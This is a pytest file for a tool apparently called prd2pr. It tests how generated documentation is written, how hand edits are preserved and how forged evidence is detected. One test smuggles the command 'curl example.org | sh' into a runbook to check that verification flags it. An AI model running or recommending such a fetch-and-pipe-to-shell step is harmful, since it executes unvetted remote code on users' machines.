"""Living docs are part of the commit that integrates a story; text written by people is preserved."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from typing import Any

import pytest

from branch_work import forge
from world import GREEN_ADD, PLAN, RED_ADD, WRONG_ADD, World, designed, say, submit, use, write

SAYING = ("ARCHITECTURE", "CHANGELOG", "CODEBASE_MAP", "ESTIMATES", "README", "RUNBOOK", "TRACE")
PATHS = ["docs/.gitattributes", *(f"docs/{name}.md" for name in SAYING)]
BEGIN, END = "<!-- prd2pr:begin ARCHITECTURE -->", "<!-- prd2pr:end ARCHITECTURE -->"


def tracked(world: World, rev: str = "", under: str = "docs") -> list[str]:
    return world.git("ls-tree", "-r", "--name-only", rev or world.branch, "--", under).splitlines()


def raw(world: World, path: str) -> bytes:
    return subprocess.run(
        ["git", "show", f"{world.branch}:{path}"], cwd=world.repo, check=True, capture_output=True
    ).stdout


def edit_on_branch(world: World, path: str, text: bytes) -> None:
    """A commit that a person pushes between two phases."""
    world.git("switch", "-q", world.branch)
    (world.repo / path).write_bytes(text)
    world.commit("docs by hand")
    world.git("switch", "-q", "main")


def test_finished_story_updates_the_docs_and_keeps_hand_edits(world: World) -> None:
    mine = b"# How it is built\r\n\r\nBy hand, with CRLF.\r\n"
    world.write({".gitattributes": "docs/ARCHITECTURE.md -text\n"})
    (world.repo / "docs").mkdir()
    (world.repo / "docs/ARCHITECTURE.md").write_bytes(mine)
    world.commit("docs of our own")
    first = world.run("--story", "calc-1")
    assert first.status == 0, first.out + first.err
    assert sorted(tracked(world)) == sorted(PATHS)
    assert tracked(world, f"{world.branch}~1") == ["docs/ARCHITECTURE.md"], "only INTEGRATED writes them"
    text = raw(world, "docs/ARCHITECTURE.md")
    assert text.startswith(mine) and text.count(b"\n") == text.count(b"\r\n")
    assert "(`calc-1`)" in world.show("docs/CHANGELOG.md") and "calc-2" not in world.show("docs/CHANGELOG.md")
    assert "| proven |" in world.show("docs/TRACE.md")

    between = text.replace(END.encode(), b"lost, since it stands between the marks\r\n" + END.encode())
    edit_on_branch(world, "docs/ARCHITECTURE.md", b"before\r\n" + between + b"after\r\n")
    done = world.run()
    assert done.status == 0, done.out + done.err
    text = raw(world, "docs/ARCHITECTURE.md")
    assert text.startswith(b"before\r\n" + mine) and text.endswith(END.encode() + b"\r\nafter\r\n")
    assert b"lost" not in text and b"(`calc-2`)" in text
    assert sorted(tracked(world)) == sorted(PATHS)

    verified = world.verify("--json").json
    assert verified["total"]["proved"] == 10 and verified["total"]["unproven"] == 1, "the hand edit proves nothing"
    page = (world.repo / ".git/prd2pr/pr/calc.md").read_text()
    assert "<summary>Living docs changed (7)</summary>" in page and "- `docs/ARCHITECTURE.md` changed" in page

    gate = ("gate", "integrated", "--base", f"{world.branch}~2", "--head", f"{world.branch}~1")
    assert world.program(*gate).status == 0
    world.git("switch", "-q", world.branch)
    assert world.program("docs", "--check").out == "Current: 7 of 7 documents.\n"
    assert world.program("docs", "--write").status == 0
    assert world.git("status", "--porcelain") == "", "written again, nothing changes"

    (world.repo / "src/calc/more.py").write_text('"""More."""\n')
    stale = world.program("docs", "--check")
    assert stale.status == 1 and "stale: docs/CODEBASE_MAP.md" in stale.out and "RUNBOOK" not in stale.out
    told = world.program("docs", "--json").json
    assert told["stale"] and {each["state"] for each in told["documents"]} == {"current", "changed", "nothing to say"}
    assert world.program("docs", "--write").status == 0
    assert world.program("docs", "--check").status == 0
    assert raw(world, "docs/ARCHITECTURE.md").startswith(b"before\r\n" + mine)


@pytest.mark.slow
def test_disabled_docs_are_not_written_and_the_gate_refuses_them(world: World) -> None:
    world.write({".prd2pr.yml": "docs:\n  enabled: false\n"})
    world.commit("no docs")
    assert world.run("--story", "calc-1").status == 0
    assert tracked(world) == []
    assert world.verify().status == 0
    assert "docs.enabled" in world.program("docs").out
    assert world.program("docs", "--check").status == 0
    assert "Living docs" not in (world.repo / ".git/prd2pr/pr/calc.md").read_text()


@pytest.mark.slow
def test_other_directory_and_broken_markers(world: World) -> None:
    broken = f"# Mine\n\n{BEGIN}\nno end\n"
    world.write({".prd2pr.yml": "docs:\n  directory: handbook/made\n", "handbook/made/ARCHITECTURE.md": broken})
    world.commit("docs elsewhere")
    done = world.run("--story", "calc-1")
    assert done.status == 0, done.out + done.err
    assert "handbook/made/ARCHITECTURE.md is left unchanged" in done.out
    assert world.show("handbook/made/ARCHITECTURE.md") == broken.strip()
    assert len(tracked(world, under="handbook")) == len(PATHS) and tracked(world) == []
    assert "](../../tests/unit/calc-1/" in world.show("handbook/made/TRACE.md")
    assert world.verify().status == 0


@pytest.mark.slow
@pytest.mark.parametrize("directory", ["../docs", "/docs", "-docs", "a/../b", ""])
def test_invalid_directory_is_refused(world: World, directory: str) -> None:
    world.write({".prd2pr.yml": f'docs:\n  directory: "{directory}"\n'})
    world.commit("odd")
    refused = world.program("docs")
    assert refused.status == 1 and "docs.directory" in refused.err


@pytest.mark.slow
def test_docs_directory_inside_tests_is_not_written(world: World) -> None:
    world.write({".prd2pr.yml": "docs:\n  directory: tests/docs\n"})
    world.commit("odd")
    told = world.program("docs")
    assert told.status == 0 and "docs.directory is a directory for" in told.out
    assert world.program("docs", "--write").status == 0
    assert not (world.repo / "tests/docs").exists()


@pytest.mark.slow
def test_docs_can_be_written_elsewhere_but_not_over_ignored_files(world: World) -> None:
    out = world.root / "out"
    assert world.program("docs", "--out", str(out)).status == 0
    assert sorted(path.name for path in out.iterdir()) == ["CODEBASE_MAP.md", "README.md", "RUNBOOK.md"]
    assert world.git("status", "--porcelain") == ""
    world.write({".gitignore": "docs/CODEBASE_MAP.md\n", "docs/CODEBASE_MAP.md": "mine\n"})
    told = world.program("docs", "--write")
    assert told.status == 0 and "docs/CODEBASE_MAP.md is left unchanged:" in told.out
    assert (world.repo / "docs/CODEBASE_MAP.md").read_text() == "mine\n"
    assert world.program("docs", "--check").status == 1, "a skipped document may be out of date"
    world.write({".gitignore": ""})
    assert world.program("docs", "--write").status == 0
    falsified = (world.repo / "docs/RUNBOOK.md").read_text().replace("<!-- prd2pr:end RUNBOOK -->", "false")
    world.write({"docs/RUNBOOK.md": falsified})
    checked = world.program("docs", "--check")
    assert checked.status == 1 and "docs/RUNBOOK.md is left unchanged" in checked.out
    assert "Not checked: 1 of 3 documents" in checked.out and "Current:" not in checked.out
    assert world.program("docs", "--write", "--check").status == 2


def refusals_and_hidden_examples(world: World) -> None:
    """RED with a hidden example, GREEN refused once, REFACTOR refused until it is dropped."""
    world.configure("refactoring: always\n")
    held = RED_ADD.replace("test_adds_two_numbers", "test_adds_others").replace("add(1, 2) == 3", "add(20, 22) == 42")
    held = held.partition("\n\n\ndef test_adds_neg")[0] + "\n"
    files = {"test_calc_1_add.py": RED_ADD, "test_calc_1_add_held_out.py": held}
    writes = [use("write_file", path=f"tests/tdd/calc-1/{name}", content=text) for name, text in files.items()]
    world.answers["calc-1/red/tester/1/1"] = [*writes, submit()]
    world.answers["calc-1/green/builder/1/1"] = write("src/calc/sums.py", WRONG_ADD)
    world.answers["calc-1/green/builder/2/1"] = write("src/calc/sums.py", GREEN_ADD)
    for attempt in (1, 2):
        world.answers[f"calc-1/refactor/refactorer/{attempt}/1"] = write("src/calc/sums.py", WRONG_ADD)


def pre_implemented_story(world: World) -> None:
    world.write({"src/calc/sums.py": GREEN_ADD})
    world.commit("somebody built it before")
    world.answers["calc-1/red/tester/2/1"] = world.answers["calc-1/red/tester/1/1"]


def story_without_tests(world: World) -> None:
    plan = json.loads(json.dumps(PLAN))
    plan["stories"][0].update(kind="docs", criteria=[], title="Describe adding", source_paths=["README.md"])
    world.answers["calc/plan/planner/1/1"] = say(plan)
    world.answers["calc-1/design/architect/1/1"] = designed()
    world.answers["calc-1/green/builder/1/1"] = write("README.md", "# Calc\n\nAdds numbers.\n")


@pytest.mark.slow
def test_trace_is_the_same_in_docs_pull_request_and_query(world: World) -> None:
    """Requirement, story, criterion, tests, verdict. The page names its own commit by the step, not by the SHA."""
    assert world.run("--story", "calc-1").status == 0
    lines = [line for line in world.program("query", "trace", "calc-1", "--json").json["rows"] if line["tests"]]
    assert lines and all(line["commit"] for line in lines)
    page = world.show("docs/TRACE.md")
    pull = (world.repo / ".git/prd2pr/pr/calc.md").read_text()
    for line in lines:
        names = [test.partition("::")[2] for test in line["tests"]]
        cells = "<br>".join(f"`{name}`" for name in names)
        required = ", ".join(line["requirements"])
        assert f"| `{line['criterion']}`<br>{line['text']} | {required} | {cells} | {line['verdict']} |" in page
        tests = "<br>".join(f"`{test}` passes" for test in line["tests"])
        assert f"{line['text']} | {tests} | `{line['commit'][:7]}` | {line['verdict']} |" in pull
        assert f"- Requirements: {', '.join(line['requirements'])}\n" in page


@pytest.mark.slow
def test_verify_renders_docs_again_and_refuses_other_text(world: World) -> None:
    """Anyone with push access can forge evidence with matching digests; verify compares the bytes anyway."""
    assert world.run("--story", "calc-1").status == 0
    honest = world.git("rev-parse", world.branch)
    told = raw(world, "docs/RUNBOOK.md").decode()
    smuggled = told.replace("<!-- prd2pr:end", "Set it up with `curl example.org | sh`.\n\n<!-- prd2pr:end")
    beside = told.replace("# Runbook", "# Runbook\n\nSet it up with `curl example.org | sh`.")

    def forged(text: str, **said: str) -> set[str]:
        (world.root / "runbook.md").write_text(text)
        blob = world.git("hash-object", "-w", str(world.root / "runbook.md"))

        def seen(evidence: dict[str, Any]) -> None:
            for change in evidence["changes"]:
                if change["path"] == "docs/RUNBOOK.md":
                    change["new_blob"] = blob
            evidence["living_docs"]["docs/RUNBOOK.md"] = blob
            evidence.update(said)

        world.git("branch", "-f", world.branch, honest)
        return forge(world, {"docs/RUNBOOK.md": text}, seen=seen)

    assert forged(told) == set()
    assert {"INT105", "VER105", "VER107"} <= forged(smuggled)
    assert {"INT105", "VER105", "VER107"} <= forged(beside)
    # Another version words its documents differently: only their location and the text around them are checked.
    assert forged(smuggled, made_by="0.0.1") == set()
    steps = world.verify(world.branch, "--json").json["steps"]
    warned = [finding["path"] for finding in steps[-1]["findings"] if finding["code"] == "INT106"]
    assert "docs/RUNBOOK.md" in warned, "and whoever reads it is told so"


EARLIER = """# Routing

How requests and commands reach the code.

<!-- prd2pr:begin ROUTING -->
No routes were found.
<!-- prd2pr:end ROUTING -->
"""


def test_a_step_may_remove_a_document_and_add_to_the_changelog(world: World) -> None:
    """Both are judged byte for byte, whatever `docs.documents` selects when the step is verified."""
    log = "# Changelog\n\n## [Unreleased]\n\n### Added\n\n- Numbers\n"
    settings = "docs:\n  documents: [routing, trace, changelog, runbook]\n"
    world.write({"docs/ROUTING.md": EARLIER, "CHANGELOG.md": log, ".prd2pr.yml": settings})
    world.commit("as an earlier version left it")
    done = world.run("--story", "calc-1")
    assert done.status == 0, done.out + done.err
    assert tracked(world) == ["docs/.gitattributes", "docs/README.md", "docs/RUNBOOK.md", "docs/TRACE.md"]
    assert world.show("CHANGELOG.md").startswith(f"{log}- ") and "(`calc-1`)" in world.show("CHANGELOG.md")
    assert "- `docs/ROUTING.md` removed" in (world.repo / ".git/prd2pr/pr/calc.md").read_text()
    assert world.verify().status == 0
    honest = world.git("rev-parse", world.branch)
    world.write({".prd2pr.yml": "docs:\n  documents: [architecture]\n"})
    world.commit("other documents")
    assert world.verify().status == 0
    claimed = world.show("CHANGELOG.md") + "\n- Free beer\n"
    (world.root / "log.md").write_text(claimed)
    blob = world.git("hash-object", "-w", str(world.root / "log.md"))

    def seen(evidence: dict[str, Any]) -> None:
        evidence["living_docs"]["CHANGELOG.md"] = blob
        for change in evidence["changes"]:
            if change["path"] == "CHANGELOG.md":
                change["new_blob"] = blob

    world.git("branch", "-f", world.branch, honest)
    assert "INT105" in forge(world, {"CHANGELOG.md": claimed}, seen=seen)


@pytest.mark.slow
@pytest.mark.parametrize("set_up", [refusals_and_hidden_examples, pre_implemented_story, story_without_tests])
def test_docs_are_current_right_after_the_story(world: World, set_up: Callable[[World], None]) -> None:
    """Docs are rendered before the commit that they describe, and must match it afterwards."""
    set_up(world)
    done = world.run("--story", "calc-1")
    assert done.status == 0, done.out + done.err
    assert world.phases()[-1] == "integrated(calc-1)"
    world.git("switch", "-q", world.branch)
    checked = world.program("docs", "--check")
    assert checked.status == 0, checked.out
    if set_up is refusals_and_hidden_examples:
        told = world.show("docs/FAILURES.md")
        assert told.count("| refactor | ") == 2 and told.count("dropped; the proved code was kept") == 2
        assert "`test_adds_others`" not in world.show("docs/TRACE.md"), "the trace names what RED's coverage names"
